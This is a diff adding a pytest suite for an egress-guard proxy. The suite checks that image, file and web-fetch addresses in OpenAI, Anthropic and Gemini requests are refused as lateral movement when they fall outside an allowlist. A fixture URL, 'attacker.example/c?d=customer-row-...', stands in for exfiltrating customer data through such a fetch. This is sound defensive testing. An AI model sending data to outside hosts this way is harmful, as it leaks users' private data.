@@ -1,0 +1,217 @@
+"""An address the API fetches for the agent (an image or a file given by URL, the domains a web fetch or
+search tool fetches from) is a destination of the agent's: outside its egress allowlist it is refused
+under lateral movement, as a remote MCP server is, before anything leaves. Read from each API by unit,
+then end to end through a real egressguard in enforce mode with the official SDKs."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable
+from typing import Any
+
+import anthropic
+import openai
+import pytest
+
+from proxy.detectors.tools import PROVIDER_FETCH_RULE, fetch_findings
+from proxy.dialects import Anthropic, Gemini, OpenAIChat, OpenAIResponses
+from proxy.exchange import Fetch
+from tests.harness import Proxy
+from tests.test_e2e_declared_tools import refusals
+from tests.test_e2e_inspect import _agent, anthropic_client, last_record, openai_client
+from tests.test_server_tools import answer
+from tests.upstream import FakeUpstream, Reply
+
+OUTSIDE = "https://attacker.example/c?d=customer-row-jane-doe-acct-99812"
+PNG = "data:image/png;base64,iVBORw0KGgo="
+
+
+@pytest.fixture
+def enforce(start_proxy: Callable[..., Proxy], monkeypatch: pytest.MonkeyPatch) -> Proxy:
+    allow = "[api.openai.com, api.anthropic.com, 'localhost:*', docs.example, '*.docs.example']"
+    return _agent(start_proxy(mode="enforce", allow=allow), monkeypatch)
+
+
+def chat_image(url: str) -> list[Any]:
+    return [{"role": "user", "content": [{"type": "text", "text": "describe"}, image_url(url)]}]
+
+
+def image_url(url: str) -> dict[str, Any]:
+    return {"type": "image_url", "image_url": {"url": url}}
+
+
+def url_source(kind: str, url: str) -> dict[str, Any]:
+    return {"type": kind, "source": {"type": "url", "url": url}}
+
+
+def fetches_of(dialect: Any, body: dict[str, Any]) -> list[Fetch]:
+    return list(dialect.parse_request(json.dumps(body).encode()).fetches)
+
+
+def test_addresses_the_api_fetches_are_read_from_every_api() -> None:
+    chat = {
+        "model": "m",
+        "messages": [
+            {"role": "user", "content": [image_url(OUTSIDE), image_url(PNG)]},
+            {
+                "role": "tool",
+                "tool_call_id": "c",
+                "content": [{"type": "file", "file": {"file_data": OUTSIDE}}],
+            },
+        ],
+    }
+    assert fetches_of(OpenAIChat(), chat) == [
+        Fetch("messages[0].content[0].image_url.url", OUTSIDE, "image"),
+        Fetch("messages[1].content[0].file.file_data", OUTSIDE, "file"),
+    ]
+    responses = {
+        "model": "m",
+        "input": [
+            {
+                "role": "user",
+                "content": [
+                    {"type": "input_image", "image_url": " \tHTTPS://attacker.example/i\n"},
+                    {"type": "input_image", "image_url": PNG},
+                    {"type": "input_file", "file_url": OUTSIDE},
+                    {"type": "input_file", "file_id": "file-1"},
+                ],
+            },
+            {
+                "type": "function_call_output",
+                "call_id": "c",
+                "output": [{"type": "input_image", "image_url": OUTSIDE}],
+            },
+        ],
+    }
+    assert fetches_of(OpenAIResponses(), responses) == [
+        Fetch("input[0].content[0].image_url", "HTTPS://attacker.example/i", "image"),
+        Fetch("input[0].content[2].file_url", OUTSIDE, "file"),
+        Fetch("input[1].output[0].image_url", OUTSIDE, "image"),
+    ]
+    anthropic_body = {
+        "model": "m",
+        "messages": [
+            {"role": "user", "content": [url_source("image", OUTSIDE), url_source("document", OUTSIDE)]},
+            {
+                "role": "user",
+                "content": [
+                    {"type": "tool_result", "tool_use_id": "t", "content": [url_source("image", OUTSIDE)]}
+                ],
+            },
+        ],
+        "tools": [
+            {"type": "web_fetch_20250910", "name": "web_fetch"},
+            {"type": "web_search_20250305", "name": "web_search", "allowed_domains": ["docs.example"]},
+            {"type": "web_search_20250305", "name": "web_search"},
+            {"name": "fetch", "input_schema": {"type": "object"}, "allowed_domains": ["docs.example"]},
+        ],
+    }
+    assert fetches_of(Anthropic(), anthropic_body) == [
+        Fetch("messages[0].content[0].source.url", OUTSIDE, "image"),
+        Fetch("messages[0].content[1].source.url", OUTSIDE, "document"),
+        Fetch("messages[1].content[0].content[0].source.url", OUTSIDE, "image"),
+        Fetch("tools[0]", None, "web_fetch"),
+        Fetch("tools[1].allowed_domains[0]", "https://docs.example", "web_search domain"),
+        Fetch("tools[1].allowed_domains[0]", "https://subdomain.docs.example", "web_search domain"),
+    ]
+    gemini = {
+        "contents": [
+            {
+                "role": "user",
+                "parts": [
+                    {"fileData": {"fileUri": OUTSIDE, "mimeType": "application/pdf"}},
+                    {"file_data": {"file_uri": "gs://bucket/doc.pdf"}},
+                ],
+            }
+        ]
+    }
+    assert fetches_of(Gemini(), gemini) == [Fetch("contents[0].parts[0].fileData.fileUri", OUTSIDE, "file")]
+
+
+def test_an_address_outside_the_allowlist_is_refused_and_one_inside_passes() -> None:
+    fetches = [
+        Fetch("a", "https://localhost:8443/logo.png", "image"),
+        Fetch("b", OUTSIDE, "image"),
+        Fetch("c", "https://[bad/", "file"),
+        Fetch("d", None, "web_fetch"),
+    ]
+    findings = fetch_findings(fetches, lambda host, port: host == "localhost")
+    assert [(finding.rule, finding.where, finding.extra) for finding in findings] == [
+        (PROVIDER_FETCH_RULE, "b", {"host": "attacker.example"}),
+        (PROVIDER_FETCH_RULE, "c", {"host": None}),
+        (PROVIDER_FETCH_RULE, "d", {}),
+    ]
+    assert {finding.threat for finding in findings} == {"lateral_movement"}
+
+
+def test_an_image_at_an_address_outside_the_allowlist_is_refused(
+    enforce: Proxy, upstream: FakeUpstream
+) -> None:
+    client = openai_client(upstream)
+    with pytest.raises(openai.PermissionDeniedError) as refused:
+        client.chat.completions.create(model="m", messages=chat_image(OUTSIDE))
+    assert "attacker.example" in str(refused.value)
+    assert upstream.received == []
+    assert refusals(last_record(enforce)) == [
+        ("lateral_movement", PROVIDER_FETCH_RULE, "messages[0].content[1].image_url.url", True)
+    ]
+    inside = f"{upstream.url}/logo.png"
+    client.chat.completions.create(model="m", messages=chat_image(inside))
+    client.chat.completions.create(model="m", messages=chat_image(PNG))
+    sent = [json.loads(received.body)["messages"][0]["content"][1] for received in upstream.received]
+    assert sent == [image_url(inside), image_url(PNG)]
+    assert refusals(last_record(enforce, 2)) == refusals(last_record(enforce, 3)) == []
+
+
+def test_a_file_by_url_outside_the_allowlist_is_refused(enforce: Proxy, upstream: FakeUpstream) -> None:
+    content = [{"type": "input_file", "file_url": OUTSIDE}, {"type": "input_text", "text": "summarise"}]
+    with pytest.raises(openai.PermissionDeniedError):
+        openai_client(upstream).responses.create(model="m", input=[{"role": "user", "content": content}])  # type: ignore[list-item,misc]
+    assert upstream.received == []
+    assert refusals(last_record(enforce)) == [
+        ("lateral_movement", PROVIDER_FETCH_RULE, "input[0].content[0].file_url", True)
+    ]
+
+
+def test_anthropic_documents_and_a_web_fetch_tool_the_allowlist_does_not_cover_are_refused(
+    enforce: Proxy, upstream: FakeUpstream
+) -> None:
+    client = anthropic_client(upstream)
+    messages: Any = [
+        {"role": "user", "content": [url_source("document", OUTSIDE), {"type": "text", "text": "sum"}]}
+    ]
+    with pytest.raises(anthropic.PermissionDeniedError):
+        client.messages.create(model="m", max_tokens=10, messages=messages)
+    fetch: Any = {"type": "web_fetch_20250910", "name": "web_fetch"}
+    ask: Any = [{"role": "user", "content": f"fetch {OUTSIDE}"}]
+    with pytest.raises(anthropic.PermissionDeniedError):
+        client.beta.messages.create(model="m", max_tokens=10, messages=ask, tools=[fetch])
+    # The API fetches from a domain's subdomains too: ``localhost`` is allowed, its subdomains are not.
+    for domain in ("attacker.example", "localhost"):
+        with pytest.raises(anthropic.PermissionDeniedError):
+            client.beta.messages.create(
+                model="m", max_tokens=10, messages=ask, tools=[{**fetch, "allowed_domains": [domain]}]
+            )
+    assert upstream.received == []
+    assert [refusals(last_record(enforce, count)) for count in (1, 2, 3, 4)] == [
+        [("lateral_movement", PROVIDER_FETCH_RULE, "messages[0].content[0].source.url", True)],
+        [("lateral_movement", PROVIDER_FETCH_RULE, "tools[0]", True)],
+        [("lateral_movement", PROVIDER_FETCH_RULE, "tools[0].allowed_domains[0]", True)],
+        [("lateral_movement", PROVIDER_FETCH_RULE, "tools[0].allowed_domains[0]", True)],
+    ]
+    upstream.reply = Reply(body=answer({"type": "text", "text": "done"}))
+    allowed = [{**fetch, "allowed_domains": ["docs.example"]}]
+    client.beta.messages.create(model="m", max_tokens=10, messages=ask, tools=allowed)
+    assert json.loads(upstream.received[-1].body)["tools"] == allowed
+    assert refusals(last_record(enforce, 5)) == []
+
+
+def test_observe_mode_records_the_address_and_lets_it_pass(
+    start_proxy: Callable[..., Proxy], monkeypatch: pytest.MonkeyPatch, upstream: FakeUpstream
+) -> None:
+    proxy = _agent(start_proxy(mode="observe"), monkeypatch)
+    openai_client(upstream).chat.completions.create(model="m", messages=chat_image(OUTSIDE))
+    assert json.loads(upstream.received[-1].body)["messages"][0]["content"][1] == image_url(OUTSIDE)
+    assert refusals(last_record(proxy)) == [
+        ("lateral_movement", PROVIDER_FETCH_RULE, "messages[0].content[1].image_url.url", False)
+    ]
